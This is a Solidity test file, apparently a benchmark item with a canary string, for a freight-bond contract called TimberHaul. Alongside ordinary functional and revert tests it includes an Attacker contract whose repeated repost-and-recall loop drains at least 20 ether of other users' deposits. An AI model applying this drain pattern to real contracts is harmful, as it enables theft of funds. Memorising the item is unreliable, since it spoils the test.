// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./TimberHaul.sol";

// assay-canary-56e278d1-1c34-48db-86bf-4be98c039da9

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Posts one load and recalls it again and again.
contract Attacker {
    TimberHaul internal haul;

    constructor(TimberHaul haul_) {
        haul = haul_;
    }

    receive() external payable {}

    function run() external {
        uint256 id = haul.post{value: 4 ether}(20, 1 days, address(this));
        haul.recall(id);
        for (uint256 i = 0; i < 5; ++i) {
            haul.repost(id, 1 days);
            haul.recall(id);
        }
        haul.cashOut();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant IDA = address(0x1DA);
    address internal constant OLE = address(0x01E);
    address internal constant MILL = address(0x3111);

    TimberHaul internal haul;
    Attacker internal woodman;

    function setUp() public {
        vm.warp(1_700_000_000);
        haul = new TimberHaul();
        woodman = new Attacker(haul);
        vm.deal(address(woodman), 4 ether);
        vm.deal(IDA, 40 ether);
        vm.deal(OLE, 10 ether);
        for (uint256 i = 0; i < 2; ++i) {
            vm.prank(IDA);
            haul.post{value: 10 ether}(60, 20 days, MILL);
        }
    }

    function test_Regular() public {
        vm.prank(OLE);
        require(!_try(0, abi.encodeCall(haul.take, (0))), "without a bond");
        vm.prank(OLE);
        haul.take{value: 2.5 ether}(0);
        vm.prank(IDA);
        require(!_try(0, abi.encodeCall(haul.repost, (0, 5 days))), "taken");
        vm.prank(OLE);
        haul.drop(0);
        require(haul.credit(IDA) == 0.25 ether && haul.credit(OLE) == 2.25 ether, "dropped");
        vm.prank(OLE);
        require(!_try(0, abi.encodeCall(haul.repost, (0, 5 days))), "not the forester");
        vm.prank(IDA);
        haul.repost(0, 5 days);
        vm.prank(OLE);
        haul.take{value: 2.5 ether}(0);
        vm.prank(IDA);
        require(!_try(0, abi.encodeCall(haul.lapse, (0))), "not due");
        vm.prank(IDA);
        require(!_try(0, abi.encodeCall(haul.confirm, (0))), "not the mill");
        vm.prank(MILL);
        haul.confirm(0);
        vm.prank(OLE);
        haul.cashOut();
        require(OLE.balance == 19.75 ether, "carried");
        vm.prank(IDA);
        require(!_try(0, abi.encodeCall(haul.recall, (0))), "carried already");

        vm.prank(OLE);
        haul.take{value: 2.5 ether}(1);
        vm.warp(block.timestamp + 21 days);
        vm.prank(OLE);
        require(!_try(0, abi.encodeCall(haul.drop, (1))), "too late");
        vm.prank(IDA);
        haul.lapse(1);
        require(haul.credit(IDA) == 12.75 ether, "lapsed");
        vm.prank(IDA);
        uint256 id = haul.post{value: 1 ether}(5, 1 days, MILL);
        vm.prank(IDA);
        haul.recall(id);
        vm.prank(IDA);
        haul.cashOut();
        require(address(haul).balance == 0 && IDA.balance == 32.75 ether, "books");
    }

    function _try(uint256 value, bytes memory data) private returns (bool ok) {
        (ok,) = address(haul).call{value: value}(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Loads have a size, a freight and a term.
    function test_RefusesLoads() public {
        refuses(IDA, TimberHaul.BadTerms.selector);
        haul.post{value: 1 ether}(0, 1 days, MILL);
        refuses(IDA, TimberHaul.BadTerms.selector);
        haul.post{value: 1 gwei - 1}(1, 1 days, MILL);
        vm.deal(IDA, 2 ** 97);
        refuses(IDA, TimberHaul.BadTerms.selector);
        haul.post{value: 2 ** 96}(1, 1 days, MILL);
        refuses(IDA, TimberHaul.BadTerms.selector);
        haul.post{value: 1 ether}(1, 0, MILL);
        refuses(IDA, TimberHaul.BadTerms.selector);
        haul.post{value: 1 ether}(1, 60 days + 1, MILL);
    }

    /// Each step at its stage, in time, and by whom it concerns.
    function test_RefusesSteps() public {
        bytes memory posted = abi.encodeWithSelector(TimberHaul.AtStage.selector, TimberHaul.Stage.Posted);
        bytes memory taken = abi.encodeWithSelector(TimberHaul.AtStage.selector, TimberHaul.Stage.Taken);
        refuses(address(0), posted);
        haul.drop(0);
        refuses(MILL, posted);
        haul.confirm(0);
        refuses(IDA, posted);
        haul.lapse(0);
        refuses(OLE, abi.encodeWithSelector(TimberHaul.NotFor.selector, OLE));
        haul.recall(0);
        vm.prank(OLE);
        haul.take{value: 2.5 ether}(0);
        refuses(OLE, taken);
        haul.take{value: 2.5 ether}(0);
        refuses(MILL, abi.encodeWithSelector(TimberHaul.NotFor.selector, MILL));
        haul.drop(0);
        vm.warp(block.timestamp + 20 days);
        refuses(OLE, abi.encodeWithSelector(TimberHaul.NotFor.selector, OLE));
        haul.lapse(0);
        refuses(OLE, TimberHaul.BadTerms.selector);
        haul.take{value: 2.5 ether}(1);
    }

    /// A load that was dropped can be called back; ether goes to who takes it.
    function test_RefusesFailedPayments() public {
        vm.prank(OLE);
        haul.take{value: 2.5 ether}(0);
        vm.prank(OLE);
        haul.drop(0);
        vm.prank(IDA);
        haul.recall(0);
        require(haul.credit(IDA) == 10.25 ether, "called back");
        vm.deal(address(haul), 0);
        refuses(IDA, TimberHaul.Unpaid.selector);
        haul.cashOut();
    }

    function exploit() public {
        woodman.run();
    }

    function test_Exploit() public {
        uint256 before = address(woodman).balance;
        exploit();
        require(address(woodman).balance >= before + 20 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(haul);
    }

    function attacker() public view returns (address) {
        return address(woodman);
    }
}
